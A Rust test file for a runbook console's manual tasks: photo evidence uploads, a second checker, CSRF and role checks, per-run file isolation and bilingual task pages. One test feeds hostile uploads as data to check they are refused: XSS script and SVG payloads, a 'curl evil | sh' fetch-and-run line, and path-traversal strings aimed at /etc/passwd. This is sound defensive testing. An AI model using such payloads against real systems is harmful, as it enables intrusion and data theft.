//! Manual work from the page: my tasks, the form with files, what is kept of them, and what is never taken.

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use engine::base::{Digest, Lang};
use harness::page::Page;

use crate::app::{Browser, Console};

const RUNBOOK: &str = r#"
runbook: hands
title: Hands
objectives: {rto: 30m}
units:
  plug:
    target: 5m
    title: Plug the line in
    manual:
      instruction: "Plug <b>it</b> in"
      copy: ip link show
      evidence: {photo: required}
      measure: {unit: ms, max: 20}
      checklist: [the lamp is green, {item: the label is right, may_fail: true}]
      second_checker: true
  later: {target: 3m, manual: {instruction: Look, roles: [network]}}
"#;

/// A picture of one dot, as a program for drawing writes it.
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\x0bIDATx\x9cc\0\x01\0\0\x05\0\x01\r\n-\xb4\0\0\0\0IEND\xaeB`\x82";

async fn hands(console: &Console) -> String {
    std::fs::write(console.folder.path().join("hands.yaml"), RUNBOOK).unwrap();
    let kim = console.sign_in("kim").await;
    let page = kim.get("/runbooks/hands/declare").await;
    let fields = [("mode", "drill"), ("reason", "x"), ("confirm", "hands")];
    kim.submit(&page, "form.declare", &fields).await.location().to_owned()
}

/// A form of a page as a browser sends it with files: name as the browser says it, and content.
async fn upload(browser: &Browser<'_>, page: &Page, fields: &[(&str, &str)], files: &[(&str, &[u8])]) -> Page {
    let (action, hidden) = page.form("form[enctype]");
    let mut body = Vec::new();
    let hidden = hidden.iter().map(|(name, value)| (name.as_str(), value.as_str()));
    for (name, value) in hidden.chain(fields.iter().copied()) {
        body.extend(format!("--edge\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n").bytes());
    }
    for (name, content) in files {
        let head = format!(
            "--edge\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: image/png\r\n\r\n"
        );
        body.extend(head.bytes().chain(content.iter().copied()).chain(*b"\r\n"));
    }
    body.extend(b"--edge--\r\n");
    let request = Request::post(&action).header(header::CONTENT_TYPE, "multipart/form-data; boundary=edge");
    browser.send(request, Body::from(body)).await
}

const DONE: [(&str, &str); 5] =
    [("result", "done"), ("evidence", "seen"), ("measure", "12.5"), ("item-0", "done"), ("item-1", "done")];

#[tokio::test]
async fn work_is_done_with_a_photo_checked_by_another_person_and_kept_by_its_digest() {
    let console = Console::open().await;
    let run = hands(&console).await;
    let (kim, lee) = (console.sign_in("kim").await, console.sign_in("lee").await);
    let tasks = kim.get("/tasks").await;
    assert_eq!(tasks.all(".card h2"), ["Plug the line in"], "what is for another role is not mine");
    let href = tasks.attribute(".card a.button", "href");
    let page = kim.get(&href).await;
    assert!(!page.has("main b") && page.has("code.copy") && page.has("input[type=file]"));
    let refused = upload(&kim, &page, &DONE, &[]).await;
    assert_eq!(refused.status, StatusCode::CONFLICT);
    assert!(refused.text.contains("a photo"), "{}", refused.text);

    let page = kim.get(&href).await;
    let done = upload(&kim, &page, &DONE[..3], &[("../../etc/<x>.png", PNG)]).await;
    assert_eq!(done.location(), "/tasks", "the items were kept when the photo was missing");
    assert!(kim.get("/tasks").await.has(".notice"), "it waits for somebody else");
    assert_eq!(kim.get(&href).await.all(".evidence li").len(), 1);

    let tasks = lee.get("/tasks").await;
    assert_eq!(tasks.all(".card h2"), ["Plug the line in"]);
    let page = lee.get(&href).await;
    let picture = page.attribute(".evidence img", "src");
    assert!(picture.ends_with(&Digest::of(PNG).to_string()));
    let fields = [("accept", "yes"), ("comment", "")];
    lee.submit(&page, "form:has([name=accept])", &fields).await;
    assert!(lee.get("/tasks").await.all(".card").is_empty());

    let report = kim.get(&format!("{run}/report.md")).await;
    assert!(report.text.contains(&Digest::of(PNG).to_string()), "the report names what was handed in");
    let (headers, bytes) = lee.file(&picture).await;
    assert_eq!(bytes, PNG);
    let of = |name: &str| headers[name].to_str().unwrap().to_owned();
    assert_eq!((of("content-type").as_str(), of("x-content-type-options").as_str()), ("image/png", "nosniff"));
    assert!(of("content-disposition").starts_with("attachment; filename*=UTF-8''"));
    assert!(!of("content-disposition").contains(['/', '<', '"']), "{}", of("content-disposition"));
    assert!(of("content-security-policy").contains("sandbox"));
}

#[tokio::test]
async fn files_that_a_browser_would_execute_are_not_kept_whatever_they_are_called() {
    let console = Console::open().await;
    let run = hands(&console).await;
    let kim = console.sign_in("kim").await;
    let href = format!("{run}/tasks/plug");
    let large = vec![b'a'; 11 << 20];
    let hostile: [(&str, &[u8]); 6] = [
        ("photo.png", b"<html><script>alert(1)</script>"),
        ("photo.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("notes.txt", b"#!/bin/sh\ncurl evil | sh"),
        ("photo.jpg", b"PK\x03\x04 a bomb"),
        ("photo.png", b"MZ\x90\0"),
        ("log.txt", &large),
    ];
    for (name, content) in hostile {
        let page = kim.get(&href).await;
        let answer = upload(&kim, &page, &[("result", "save")], &[(name, content)]).await;
        let refused = [StatusCode::CONFLICT, StatusCode::PAYLOAD_TOO_LARGE].contains(&answer.status);
        assert!(refused, "{name}: {} {}", answer.status, answer.text);
        let status = kim.status_of(&format!("{run}/evidence/{}", Digest::of(content))).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{name} was kept");
    }
    assert!(!kim.get(&href).await.has(".evidence li"));
    for path in ["..%2f..%2fetc%2fpasswd", "0", &"0".repeat(64)] {
        let status = kim.status_of(&format!("{run}/evidence/{path}")).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{path}");
    }
}

#[tokio::test]
async fn nothing_is_taken_from_strangers_nor_from_who_may_not_do_the_work() {
    let console = Console::open().await;
    let run = hands(&console).await;
    let (kim, park) = (console.sign_in("kim").await, console.sign_in("park").await);
    let href = format!("{run}/tasks/plug");
    let mut page = kim.get(&href).await;
    let csrf = page.attribute("form[enctype] [name=csrf]", "value");
    page.text = page.text.replace(&csrf, "forged");
    let forged = upload(&kim, &page, &[("result", "save")], &[("a.png", PNG)]).await;
    assert_eq!(forged.status, StatusCode::FORBIDDEN);

    let auditor = park.get(&href).await;
    assert!(!auditor.has("form[enctype]"), "who may not do it is asked for nothing");
    let own = park.get(&run).await.attribute("form[action='/sign-out'] [name=csrf]", "value");
    let mut page = kim.get(&href).await;
    page.text = page.text.replace(&csrf, &own);
    let refused = upload(&park, &page, &[("result", "save")], &[("a.png", PNG)]).await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
    let status = kim.status_of(&format!("{run}/evidence/{}", Digest::of(PNG))).await;
    assert_eq!(status, StatusCode::NOT_FOUND, "nothing was kept");
}

#[tokio::test]
async fn a_file_belongs_to_its_run_alone() {
    let console = Console::open().await;
    let (one, other) = (hands(&console).await, hands(&console).await);
    let kim = console.sign_in("kim").await;
    let page = kim.get(&format!("{one}/tasks/plug")).await;
    upload(&kim, &page, &[("result", "save")], &[("a.png", PNG)]).await.location();
    let digest = Digest::of(PNG);
    assert_eq!(kim.status_of(&format!("{one}/evidence/{digest}")).await, StatusCode::OK);
    assert_eq!(kim.status_of(&format!("{other}/evidence/{digest}")).await, StatusCode::NOT_FOUND);
    assert_ne!(console.get(&format!("{one}/evidence/{digest}")).await.status, StatusCode::OK, "nor to visitors");
}

#[tokio::test]
async fn my_tasks_are_in_both_languages_and_say_who_has_what() {
    let console = Console::open().await;
    console.add("choi", &["network"], Lang::Ko, false).await;
    let run = hands(&console).await;
    let (kim, lee, choi) = (console.sign_in("kim").await, console.sign_in("lee").await, console.sign_in("choi").await);
    assert_eq!(choi.get("/tasks").await.all(".card").len(), 1);
    let page = lee.get(&format!("{run}/tasks/plug")).await;
    // Not to nobody, nor to who could do nothing with it.
    for (to, why) in [("nobody", "로그인할 수 있는 사람이 없습니다"), ("park", "park 님에게는 그 역할이 없습니다")]
    {
        let refused = lee.submit(&page, "form:has([value=assign])", &[("to", to), ("verb", "assign")]).await;
        assert_eq!(refused.status, StatusCode::CONFLICT);
        assert!(refused.text.contains(why), "{}", refused.text);
    }
    let page = lee.get(&format!("{run}/tasks/plug")).await;
    lee.submit(&page, "form:has([value=assign])", &[("to", "kim"), ("verb", "assign")]).await;
    assert!(lee.get("/tasks").await.all(".card").is_empty(), "it is kim's now");
    let tasks = kim.get("/tasks").await;
    assert!(tasks.text.contains("lee") && tasks.text.contains("My tasks"));
    assert!(lee.get("/tasks").await.text.contains("할 일"));
    let page = kim.get(&format!("{run}/tasks/plug")).await;
    kim.submit(&page, "form:has([value=release])", &[("verb", "release")]).await;
    assert_eq!(lee.get("/tasks").await.all(".card").len(), 1);
}
